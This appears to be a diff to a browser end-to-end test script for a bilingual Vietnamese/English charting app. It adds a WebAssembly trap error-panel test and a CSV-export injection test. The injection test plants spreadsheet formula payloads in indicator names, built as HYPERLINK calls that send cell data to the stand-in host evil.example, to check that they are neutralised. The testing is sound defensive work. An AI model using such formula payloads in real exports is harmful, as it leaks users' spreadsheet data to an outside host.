@@ -15,7 +15,7 @@ const dist = path.resolve(options.dist);
 const shots = path.resolve(options.shots);
 const only = options.only ? new Set(options.only.split(',')) : null;
 const SECTIONS = ['overview', 'english', 'axe', 'errors', 'hostile', 'views', 'places', 'filters', 'hover', 'theme', 'files', 'params',
-  'timing', 'present', 'slides', 'kiosk', 'stale', 'offline', 'faults', 'origin', 'csp', 'names', 'exports', 'memory'];
+  'timing', 'present', 'slides', 'kiosk', 'stale', 'offline', 'faults', 'origin', 'csp', 'names', 'trap', 'exports', 'memory'];
 if (options.list) { console.log(SECTIONS.join('\n')); process.exit(0); }
 for (const name of only ?? []) if (!SECTIONS.includes(name)) { console.error(`unknown section "${name}"; sections: ${SECTIONS.join(', ')}`); process.exit(2); }
 fs.mkdirSync(shots, { recursive: true });
@@ -677,6 +677,23 @@ await section('names', async () => {
   }
 });
 
+await section('trap', async () => {
+  // The release build aborts on a panic, which traps in WebAssembly; the start-up script turns an
+  // uncaught trap into the error panel. Simulated with the same error type the engine throws.
+  const { context, page } = await open('');
+  await page.evaluate(() => setTimeout(() => { throw new WebAssembly.RuntimeError('unreachable'); }));
+  await page.waitForFunction(() => document.documentElement.dataset.state === 'error', null, { timeout: 5000 }).catch(() => {});
+  const info = await page.evaluate(() => ({ state: document.documentElement.dataset.state, text: document.querySelector('.error-panel')?.textContent ?? '', button: !!document.querySelector('.error-panel button') }));
+  check('a trap shows the error panel in both languages with a reload button', info.state === 'error' && /Lỗi \/ Error/.test(info.text) && /Reload/.test(info.text) && info.button, JSON.stringify(info).slice(0, 300));
+  await context.close();
+  // Other script errors are not mistaken for the app stopping.
+  const second = await open('');
+  await second.page.evaluate(() => setTimeout(() => { throw new Error('an extension failed'); }));
+  await second.page.waitForTimeout(300);
+  check('an unrelated script error leaves the app running', (await second.page.evaluate(() => document.documentElement.dataset.state)) === 'ready');
+  await second.context.close();
+});
+
 await section('exports', async () => {
   // Exports: CSV read back, SVG parsed, PNG dimensions, slide PNG 1920×1080.
   const context = await browser.newContext({ viewport: { width: 1920, height: 1080 }, acceptDownloads: true });
@@ -692,6 +709,21 @@ await section('exports', async () => {
   const csvRows = csv.replace(/^\uFEFF/, '').trim().split(/\r\n/);
   const tableRows = await page.locator('#ranking-chart tbody tr').count();
   check('CSV export: UTF-8 with BOM, a header and one row per table row', csv.startsWith('\uFEFF') && csvRows[0].startsWith('Chỉ tiêu') && csvRows.length === tableRows + 1, `${csvRows.length} lines, ${tableRows} rows`);
+  // Cells a spreadsheet would run as formulas are neutralised; numbers stay numbers.
+  const formulas = JSON.parse(defaultText);
+  const starts = ['=', '@', '+', '-'];
+  formulas.indicators.forEach((indicator, index) => { indicator.name = { vi: `${starts[index % 4]}HYPERLINK("http://evil.example/?q="&A2,"Bấm") ${indicator.name.vi}`, en: 'x' }; });
+  fixtures.set('/fixtures/formulas.json', JSON.stringify(formulas));
+  await page.goto(`${base}?view=ranking&data=fixtures/formulas.json`);
+  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
+  await page.click('#ranking-chart summary');
+  const hostileCsv = (await grab('Tải CSV')).toString('utf8').replace(/^\uFEFF/, '').trim().split(/\r\n/).slice(1);
+  const firstCells = hostileCsv.map((line) => line.replace(/^"/, ''));
+  check('CSV export: formula-like names are neutralised with an apostrophe', firstCells.length > 5 && firstCells.every((cell) => cell.startsWith("'")), firstCells.slice(0, 4).join(' | '));
+  check('CSV export: percentages stay as written', hostileCsv.every((line) => /\d+(,\d+)?\s?%/.test(line)), hostileCsv.slice(0, 2).join(' | '));
+  await page.goto(`${base}?view=ranking`);
+  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready');
+  await page.click('#ranking-chart summary');
   const svg = (await grab('Tải SVG')).toString('utf8');
   const parsed = await page.evaluate((text) => {
     const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
